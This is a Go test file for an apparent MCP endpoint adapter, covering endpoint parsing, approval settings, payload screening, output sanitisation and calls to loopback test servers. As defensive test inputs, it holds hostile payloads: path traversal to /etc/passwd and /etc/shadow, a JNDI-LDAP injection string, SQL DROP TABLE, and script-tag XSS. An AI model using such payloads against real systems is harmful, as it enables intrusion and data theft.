package remote

import (
	"context"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	runerrors "schemarun/internal/errors"
	"schemarun/internal/logging"
)

// newIPv4TestServer pins the listener to tcp4 loopback; some CI hosts have
// no routable IPv6.
func newIPv4TestServer(t *testing.T, handler http.Handler) *httptest.Server {
	t.Helper()

	listener, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Skipf("cannot listen on tcp4 loopback: %v", err)
	}
	server := httptest.NewUnstartedServer(handler)
	server.Listener.Close()
	server.Listener = listener
	server.Start()
	t.Cleanup(server.Close)
	return server
}

func TestParseEndpoint(t *testing.T) {
	t.Parallel()

	cases := []struct {
		in        string
		wantLabel string
		wantErr   bool
	}{
		{"tools@https://example.com/mcp", "tools", false},
		{"https://tools.example.com/mcp", "tools", false},
		{"http://localhost:8080", "localhost", false},
		{"http://127.0.0.1:9000/x", "mcp_127", false},
		{"http://example.com/mcp", "", true},
		{"ftp://example.com", "", true},
		{"justalabel", "", true},
		{"1bad@https://example.com", "", true},
		{"", "", true},
	}
	for _, tc := range cases {
		ep, err := ParseEndpoint(tc.in)
		if tc.wantErr {
			require.Error(t, err, tc.in)
			require.True(t, runerrors.IsKind(err, runerrors.KindUsage), tc.in)
			continue
		}
		require.NoError(t, err, tc.in)
		require.Equal(t, tc.wantLabel, ep.Label, tc.in)
	}
}

func TestEndpointsFromEnv(t *testing.T) {
	t.Parallel()

	environ := []string{
		"PATH=/usr/bin",
		"SCHEMARUN_MCP_DATA=https://data.example.com/mcp",
		"SCHEMARUN_MCP_SEARCH=idx@https://search.example.com",
		"SCHEMARUN_MCP_EMPTY=",
	}
	endpoints, err := EndpointsFromEnv(environ)
	require.NoError(t, err)
	require.Len(t, endpoints, 2)
	require.Equal(t, "data", endpoints[0].Label)
	require.Equal(t, "idx", endpoints[1].Label)
}

func TestEndpointsFromEnvRejectsBadURL(t *testing.T) {
	t.Parallel()

	_, err := EndpointsFromEnv([]string{"SCHEMARUN_MCP_BAD=http://not-loopback.example.com"})
	require.Error(t, err)
	require.True(t, runerrors.IsKind(err, runerrors.KindUsage))
}

func TestNewAdapterRejectsApprovalMode(t *testing.T) {
	t.Parallel()

	eps := []Endpoint{{Label: "tools", URL: "https://example.com/mcp"}}
	_, err := NewAdapter(eps, "user", WithLogger(logging.Nop()))
	require.Error(t, err)
	require.True(t, runerrors.IsKind(err, runerrors.KindPolicyViolation))
	require.Equal(t, runerrors.ExitUsage, runerrors.ExitCodeFor(err))
}

func TestNewAdapterRejectsDuplicateLabels(t *testing.T) {
	t.Parallel()

	eps := []Endpoint{
		{Label: "tools", URL: "https://a.example.com"},
		{Label: "tools", URL: "https://b.example.com"},
	}
	_, err := NewAdapter(eps, "never", WithLogger(logging.Nop()))
	require.Error(t, err)
	require.True(t, runerrors.IsKind(err, runerrors.KindUsage))
}

func TestToolConfigs(t *testing.T) {
	t.Parallel()

	eps := []Endpoint{{
		Label:        "tools",
		URL:          "https://example.com/mcp",
		AllowedTools: []string{"query"},
		Headers:      map[string]string{"X-Auth": "token"},
	}}
	a, err := NewAdapter(eps, "", WithLogger(logging.Nop()), WithoutProbe())
	require.NoError(t, err)

	configs := a.ToolConfigs()
	require.Len(t, configs, 1)
	require.Equal(t, "mcp", configs[0]["type"])
	require.Equal(t, "tools", configs[0]["server_label"])
	require.Equal(t, "https://example.com/mcp", configs[0]["server_url"])
	require.Equal(t, "never", configs[0]["require_approval"])
	require.Equal(t, []string{"query"}, configs[0]["allowed_tools"])
	require.Equal(t, map[string]string{"X-Auth": "token"}, configs[0]["headers"])
}

func TestScreenPayload(t *testing.T) {
	t.Parallel()

	require.NoError(t, ScreenPayload([]byte(`{"query": "monthly revenue"}`)))

	hostile := []string{
		`{"path": "../../etc/passwd"}`,
		`{"html": "<SCRIPT>alert(1)</script>"}`,
		`{"q": "${jndi:ldap://evil}"}`,
		`{"sql": "DROP TABLE users"}`,
		`{"uri": "file:///etc/shadow"}`,
		`{"uri": "ftp://evil.example.com"}`,
	}
	for _, payload := range hostile {
		err := ScreenPayload([]byte(payload))
		require.Error(t, err, payload)
		require.True(t, runerrors.IsKind(err, runerrors.KindPolicyViolation), payload)
	}

	big := []byte(`{"pad": "` + strings.Repeat("x", maxPayloadBytes) + `"}`)
	err := ScreenPayload(big)
	require.Error(t, err)
	require.True(t, runerrors.IsKind(err, runerrors.KindPolicyViolation))
}

func TestSanitizeString(t *testing.T) {
	t.Parallel()

	require.Equal(t, "hello", SanitizeString("<script>alert(1)</script>hello"))
	require.Equal(t, "alert(1)", SanitizeString("javascript:alert(1)"))
	require.NotContains(t, SanitizeString("x onclick=steal()"), "onclick=")
	require.Equal(t, "a bold move", SanitizeString("a <b>bold</b> move"))
	require.Equal(t, "plain text", SanitizeString("plain text"))
}

func TestSanitizeValueRecurses(t *testing.T) {
	t.Parallel()

	in := map[string]any{
		"title": "<script>x</script>Report",
		"rows": []any{
			map[string]any{"link": "javascript:void(0)"},
			"safe",
		},
		"count": float64(3),
	}
	out := SanitizeValue(in).(map[string]any)
	require.Equal(t, "Report", out["title"])
	rows := out["rows"].([]any)
	require.Equal(t, "void(0)", rows[0].(map[string]any)["link"])
	require.Equal(t, "safe", rows[1])
	require.Equal(t, float64(3), out["count"])
}

func TestSanitizeJSONFallsBackToText(t *testing.T) {
	t.Parallel()

	out := SanitizeJSON([]byte("<script>bad</script>not json"))
	require.Equal(t, "not json", string(out))
}

func TestPrepareProbesEndpoints(t *testing.T) {
	var method string
	server := newIPv4TestServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		method = r.Method
		w.WriteHeader(http.StatusMethodNotAllowed)
	}))

	a, err := NewAdapter([]Endpoint{{Label: "local", URL: server.URL}}, "never", WithLogger(logging.Nop()))
	require.NoError(t, err)

	require.NoError(t, a.Prepare(context.Background()))
	require.Equal(t, http.MethodHead, method)
	require.NoError(t, a.Health(context.Background()))
}

func TestPrepareFailsOnUnreachableEndpoint(t *testing.T) {
	listener, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Skipf("cannot listen on tcp4 loopback: %v", err)
	}
	addr := "http://" + listener.Addr().String()
	listener.Close()

	a, err := NewAdapter([]Endpoint{{Label: "dead", URL: addr}}, "never", WithLogger(logging.Nop()))
	require.NoError(t, err)

	err = a.Prepare(context.Background())
	require.Error(t, err)
	require.True(t, runerrors.IsKind(err, runerrors.KindUsage))
	require.Error(t, a.Health(context.Background()))
}

func TestHealthBeforePrepareIsDegraded(t *testing.T) {
	t.Parallel()

	a, err := NewAdapter([]Endpoint{{Label: "x", URL: "https://example.com"}}, "never", WithLogger(logging.Nop()))
	require.NoError(t, err)

	err = a.Health(context.Background())
	require.Error(t, err)
	var degraded *runerrors.DegradedError
	require.ErrorAs(t, err, &degraded)
}

func TestInvokeScreensAndSanitizes(t *testing.T) {
	var received []byte
	server := newIPv4TestServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		received, _ = io.ReadAll(r.Body)
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"answer": "<script>steal()</script>42"}`))
	}))

	a, err := NewAdapter([]Endpoint{{Label: "local", URL: server.URL}}, "never",
		WithLogger(logging.Nop()), WithoutProbe())
	require.NoError(t, err)

	out, err := a.Invoke(context.Background(), "local", []byte(`{"q": "answer"}`))
	require.NoError(t, err)
	require.JSONEq(t, `{"answer": "42"}`, string(out))
	require.Equal(t, `{"q": "answer"}`, string(received))

	_, err = a.Invoke(context.Background(), "local", []byte(`{"q": "../../x"}`))
	require.Error(t, err)
	require.True(t, runerrors.IsKind(err, runerrors.KindPolicyViolation))

	_, err = a.Invoke(context.Background(), "ghost", []byte(`{}`))
	require.Error(t, err)
	require.True(t, runerrors.IsKind(err, runerrors.KindUsage))
}

func TestInvokeMapsServerErrors(t *testing.T) {
	server := newIPv4TestServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusBadGateway)
		_, _ = w.Write([]byte(`{"error": {"message": "upstream sad"}}`))
	}))

	a, err := NewAdapter([]Endpoint{{Label: "local", URL: server.URL}}, "never",
		WithLogger(logging.Nop()), WithoutProbe())
	require.NoError(t, err)

	_, err = a.Invoke(context.Background(), "local", []byte(`{}`))
	require.Error(t, err)
	require.True(t, runerrors.IsTransient(err))
	require.Equal(t, 502, runerrors.StatusOf(err))
}

func TestParseEndpointDecodedJSONNumbersSurvive(t *testing.T) {
	t.Parallel()

	out := SanitizeJSON([]byte(`{"n": 1.5, "b": true, "s": null}`))
	var v map[string]any
	require.NoError(t, json.Unmarshal(out, &v))
	require.Equal(t, 1.5, v["n"])
	require.Equal(t, true, v["b"])
	require.Nil(t, v["s"])
}
